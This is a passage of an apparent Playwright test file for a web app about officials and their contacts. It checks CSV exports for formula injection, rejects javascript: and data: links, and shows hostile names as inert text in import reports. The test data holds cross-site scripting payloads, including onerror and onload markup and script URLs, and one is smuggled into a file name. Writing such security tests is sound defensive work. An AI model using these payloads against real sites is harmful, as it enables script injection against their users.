    .split('\n')
    .map((line) => JSON.parse(line));
  expect(lines).toHaveLength(5);
  const actors = new Set(lines.flatMap((l) => [...l.source, ...l.recipient]).map((actor) => actor.actor_text));
  expect([...actors].sort()).toEqual([...names].sort());
  for (const line of lines) expect(line.counterpart.summary).toBe(SUMMARY);

  // A pair's gaps: the names are in the # lines above the header, which a spreadsheet reads as cells too.
  for (const [x, y] of [
    [a0, b0],
    [a[3], b[4]],
  ]) {
    const response = await request.get(`/api/v1/gaps/export?format=csv&a=${x.slug}&b=${y.slug}`);
    expect(response.status()).toBe(200);
    expectDownload(response, /^text\/csv; charset=utf-8$/, 'csv');
    const text = await response.text();
    expectNoFormula(readCsv(text).every, `gaps of ${x.name} and ${y.name}`);
    // A value holding a double quote is written as a quoted field, its quotes doubled.
    const pairLine = text.split('\r\n').find((line) => line.startsWith('# pair: '))!;
    const pair = pairLine
      .slice('# pair: '.length)
      .replace(/^"(.*)"$/, '$1')
      .replaceAll('""', '"');
    expect(pair).toBe(`${x.name} (${x.slug}) – ${y.name} (${y.slug})`);
    const gapsJson = await request.get(`/api/v1/gaps/export?format=json&a=${x.slug}&b=${y.slug}`);
    expectDownload(gapsJson, /^application\/json; charset=utf-8$/, 'json');
    expect((await gapsJson.json()).pair.a.label).toBe(x.name);
  }

  // Officials, in the import format: names, spellings and offices.
  const officials = await request.get(`/api/v1/officials/export?country=${A}`);
  expectDownload(officials, /^text\/csv; charset=utf-8$/, 'csv');
  const officialsCsv = readCsv(await officials.text());
  expectNoFormula(officialsCsv.every, 'officials CSV');
  const byName = new Map(officialsCsv.rows.map((row) => [row.name.replace(/^'/, ''), row]));
  for (const official of a) expect(byName.has(official.name), official.name).toBe(true);
  expect(byName.get(NAMES_A[3])!.name).toBe(`'${NAMES_A[3]}`);
  expect(byName.get(NAMES_A[0])!.bio).toBe(BIO);

  // The audit log's CSV, as an admin downloads it.
  const admin = await asAccount(browser, 'admin');
  const audit = await admin.request.get(`/admin/audit/export?entityType=official&entityId=${a[3].id}`);
  expect(audit.status()).toBe(200);
  expectDownload(audit, /^text\/csv; charset=utf-8$/, 'csv');
  const auditCsv = readCsv(await audit.text());
  expectNoFormula(auditCsv.every, 'audit CSV');
  expect(JSON.parse(auditCsv.rows[0].after).name).toBe(NAMES_A[3]);
  await admin.close();
});

test('a javascript: address is refused wherever an address becomes a link', async ({ browser, request }) => {
  const { a, b } = world;
  const bad = `javascript:${PWN}`;
  const contact = (source: Record<string, unknown>) =>
    request.post('/api/v1/contacts', {
      headers: bearer('researcher'),
      data: {
        date: '2021-02-02',
        type: 'CALL',
        status: 'HELD',
        participants: [a[0].slug, b[0].slug],
        sources: [source],
      },
    });
  for (const [source, field] of [
    [{ url: bad }, 'sources.0.url'],
    [{ url: ' JavaScript:alert(1)' }, 'sources.0.url'],
    [{ url: 'data:text/html,<script>alert(1)</script>' }, 'sources.0.url'],
    [{ url: 'https://example.org/', archiveUrl: bad }, 'sources.0.archiveUrl'],
  ] as const) {
    const response = await contact(source);
    expect(response.status(), await response.text()).toBe(400);
    expect(Object.keys((await response.json()).error.fields)).toEqual([field]);
  }
  for (const [data, field] of [
    [{ links: [bad] }, 'links.0'],
    [{ photoUrl: bad }, 'photoUrl'],
  ] as const) {
    const response = await request.post('/api/v1/officials', {
      headers: bearer('admin'),
      data: { name: `Linktest ${TAG}`, country: A, ...data },
    });
    expect(response.status(), await response.text()).toBe(400);
    expect(Object.keys((await response.json()).error.fields)).toEqual([field]);
  }

  // The admin forms say so by the field, and make nothing.
  const context = await asAccount(browser, 'admin');
  const page = await context.newPage();
  for (const [list, first, fields, button] of [
    [
      '/admin/events',
      'Date',
      [
        ['Date', '2021-02-02'],
        ['Title', `Linktest ${TAG}`],
        ['Link', bad],
      ],
      'Add event',
    ],
    [
      '/admin/channels',
      'Established on',
      [
        ['Established on', '2021-02-02'],
        ['Name', `Linktest ${TAG}`],
        ['Countries', `${A}, ${B}`],
        ['Source', bad],
      ],
      'Add channel',
    ],
  ] as const) {
    await page.goto(list);
    const form = page.getByRole('form', { name: /^New / });
    await hydrated(form.getByLabel(new RegExp(`^${first}`)));
    for (const [label, value] of fields) await form.getByLabel(new RegExp(`^${label}`)).fill(value);
    await form.getByRole('button', { name: button }).click();
    const field = form.getByLabel(new RegExp(`^${fields.at(-1)![0]}`));
    await expect(field).toHaveAttribute('aria-invalid', 'true');
    await expect(form).toContainText('Enter a full web address starting with https://');
    await page.reload();
    await expect(page.getByText(`Linktest ${TAG}`)).toHaveCount(0);
  }
  await context.close();
});

test('the import report names hostile officials as text', async ({ browser }) => {
  test.setTimeout(120_000);
  // An admin account of this spec's own (admins may create officials), so no one else's last report changes.
  const account: OwnAccount = await createOwnAccount('hostile-import', { role: 'ADMIN' });
  const context = await browser.newContext({ baseURL });
  try {
    const page = await context.newPage();
    const dialogs = watchDialogs(page);
    await page.goto('/sign-in');
    await page.getByLabel('Email').fill(account.email);
    await page.getByLabel('Password', { exact: true }).fill(account.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(page.getByRole('button', { name: new RegExp(account.name) })).toBeVisible();

    const newcomer = `<img src=x onerror="${PWN}"> Newcomer ${TAG}`;
    const rows = [
      [
        'external_id',
        'date',
        'type',
        'status',
        'participant_a',
        'country_a',
        'participant_b',
        'country_b',
        'source_url',
        'summary',
      ],
      [`hostile-${TAG}-1`, '2021-03-04', 'CALL', 'HELD', NAMES_A[0], A, newcomer, B, SOURCE.url, SUMMARY],
      [`hostile-${TAG}-2`, '2021-03-05', 'CALL', 'HELD', NAMES_A[2], A, NAMES_B[1], B, `javascript:${PWN}`, SUMMARY],
    ];
    await page.goto('/imports');
    await page.getByLabel('CSV file of contacts').setInputFiles({
      name: `"><svg onload=${PWN}>.csv`,
      mimeType: 'text/csv',
      buffer: Buffer.from(Papa.unparse(rows)),
    });
    await page.getByRole('checkbox', { name: /Create officials/ }).check();
    await page.getByRole('button', { name: 'Dry run: check, write nothing' }).click();
    const report = page.getByRole('region', { name: /^Dry run of / });
    await expect(report).toBeVisible();
    await expect(report.getByRole('heading', { level: 2 })).toContainText(`Dry run of "><svg onload=${PWN}>.csv`);
    await expect(report.getByRole('table', { name: /Problems/ })).toContainText('source_url');
    await expect(report).toContainText(`${newcomer} (${B}), first on row 2`);
    await expectInert(page, dialogs, 'the import report');
    await screenshot(page, 'hostile-import-report');
  } finally {
    await context.close();
    await removeOwnAccounts([account]);
  }
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
